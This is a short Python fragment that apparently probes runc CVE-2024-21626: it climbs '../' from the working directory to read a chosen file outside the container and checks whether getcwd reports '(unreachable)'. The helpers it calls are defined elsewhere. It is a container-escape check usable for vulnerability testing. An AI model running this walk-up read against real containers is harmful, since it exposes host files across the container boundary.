# runc CVE-2024-21626: where the working directory is, and what can be reached from it by walking up. Argument: the file outside.
target = sys.argv[1]


def walk_up():
    path = "."
    for _ in range(32):
        if os.path.exists(path + target):
            return open(path + target).read()
        path += "/.."
    return None


def unreachable():
    # The kernel says so where a working directory lies outside of the root.
    return os.getcwd().startswith("(unreachable)") and os.getcwd()


attempt("walk up from the working directory", walk_up)
attempt("a working directory outside of the root", unreachable)
done()
